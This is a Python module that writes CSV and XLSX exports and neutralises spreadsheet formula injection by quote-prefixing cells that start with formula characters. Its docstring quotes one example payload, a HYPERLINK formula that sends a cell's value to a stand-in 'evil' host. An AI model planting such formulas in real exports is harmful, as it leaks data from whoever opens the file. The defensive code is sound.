"""The one writer for every CSV and XLSX export (console downloads, API exports, CLI files).

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula: a store, campaign variant or customer name like
``=HYPERLINK("http://evil/?"&A1,"点我")`` in an export would run when the file is opened.
OWASP's rule (CSV injection): such a cell is prefixed with a single quote, which makes the
program show it as text, and the cell is quoted and its quotes doubled (the csv module does that).
Numbers, and text that is just a number (``-5``, ``-1.50``), are left alone: a negative amount
is not a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Collection, Iterable, Mapping, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

__all__ = [
    "FORMULA_LEADS",
    "csv_response",
    "csv_text",
    "safe_cell",
    "safe_row",
    "write_arrow_csv",
    "write_csv",
    "xlsx_bytes",
]

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_NUMBER_RE2 = r"^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$"
_LEADS_RE2 = "^[=+\\-@\t\r]"
BOM = "\ufeff"


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a spreadsheet cell: formula-leading text gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        if _NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {k: safe_cell(v) for k, v in row.items()}


def tidy_number(value: Any, *, money: bool = False) -> Any:
    """A float as a reader expects it in a file: money to 2 decimals (``3799943.30``), other
    floats without binary noise (``0.30000000000000004`` → ``0.3``); the rest unchanged."""
    if isinstance(value, bool) or not isinstance(value, float | Decimal):
        return value
    if money:
        return f"{value:.2f}" if value == value else ""
    if isinstance(value, Decimal) or value != value or value in (float("inf"), float("-inf")):
        return value
    return float(f"{value:.15g}")


def csv_text(
    rows: Iterable[Mapping[str, Any]],
    *,
    columns: Sequence[str] | None = None,
    bom: bool = True,
    labels: Mapping[str, str] | None = None,
    money: Collection[str] = (),
) -> str:
    """CSV text of ``rows`` (UTF-8 BOM first, so Excel reads the Chinese), cells neutralised,
    floats tidied (``money`` columns to 2 decimals). Without ``columns`` they are the keys of
    the rows in first-seen order; ``labels`` names them in the header (the reader's language)."""
    materialized = list(rows)
    if columns is None:
        columns = list(dict.fromkeys(k for r in materialized for k in r))
    buf = io.StringIO()
    if bom:
        buf.write(BOM)
    if columns:
        writer = csv.writer(buf, lineterminator="\r\n")  # RFC 4180
        writer.writerow([(labels or {}).get(c, c) for c in columns])
        for r in materialized:
            writer.writerow(
                [safe_cell(tidy_number(r.get(c), money=c in money)) for c in columns]
            )
    return buf.getvalue()


def csv_response(
    rows: Iterable[Mapping[str, Any]],
    *,
    filename: str,
    columns: Sequence[str] | None = None,
    labels: Mapping[str, str] | None = None,
    money: Collection[str] = (),
) -> Any:
    """A download response (``text/csv``, attachment) of :func:`csv_text`."""
    from fastapi import Response

    safe_name = re.sub(r"[^\w.\-]", "_", filename)
    return Response(
        csv_text(rows, columns=columns, labels=labels, money=money),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{safe_name}"'},
    )


def write_csv(
    path: Path,
    rows: Iterable[Mapping[str, Any]],
    *,
    columns: Sequence[str] | None = None,
    bom: bool = True,
) -> int:
    """Write :func:`csv_text` to ``path``; returns the number of rows."""
    materialized = list(rows)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(csv_text(materialized, columns=columns, bom=bom), encoding="utf-8")
    return len(materialized)


def append_csv_row(path: Path, header: Sequence[str], row: Sequence[Any]) -> None:
    """Append one neutralised row to a CSV file (the header first when the file is new)."""
    new = not path.exists()
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        if new:
            writer.writerow(header)
        writer.writerow([safe_cell(v) for v in row])


def xlsx_bytes(
    rows: Iterable[Mapping[str, Any]],
    *,
    columns: Sequence[str] | None = None,
    sheet: str = "export",
) -> bytes:
    """An XLSX workbook of ``rows``: text cells are written as text (never as formulas) and
    neutralised as in CSV, so a copy-paste into another sheet stays harmless too."""
    import openpyxl

    materialized = list(rows)
    if columns is None:
        columns = list(dict.fromkeys(k for r in materialized for k in r))
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet(sheet[:31])
    ws.append(list(columns))
    for r in materialized:
        cells: list[Any] = []
        for c in columns:
            value = safe_cell(r.get(c))
            if isinstance(value, str):
                cell = openpyxl.cell.WriteOnlyCell(ws, value=value)
                cell.data_type = "s"  # never a formula, whatever the text
                cells.append(cell)
            else:
                cells.append(value)
        ws.append(cells)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def write_arrow_csv(table: Any, path: Path | str, *, bom: bool = False) -> int:
    """Write a (large) Arrow table as CSV with pyarrow's writer, its text columns neutralised
    column-wise (no Python loop over rows); UTF-8 (a BOM first with ``bom``). Returns the row
    count."""
    import pyarrow as pa
    import pyarrow.compute as pc
    import pyarrow.csv as pacsv

    columns = []
    for name in table.column_names:
        col = table[name]
        if pa.types.is_string(col.type) or pa.types.is_large_string(col.type):
            risky = pc.and_(
                pc.match_substring_regex(col, _LEADS_RE2),
                pc.invert(pc.match_substring_regex(col, _NUMBER_RE2)),
            )
            quoted = pc.binary_join_element_wise(pa.scalar("'"), col, pa.scalar(""))
            col = pc.if_else(pc.fill_null(risky, False), quoted, col)
        columns.append(col)
    safe = pa.table(columns, names=table.column_names)
    out = Path(path)
    out.parent.mkdir(parents=True, exist_ok=True)
    with out.open("wb") as f:
        if bom:
            f.write(BOM.encode())
        pacsv.write_csv(safe, f)
    return int(safe.num_rows)
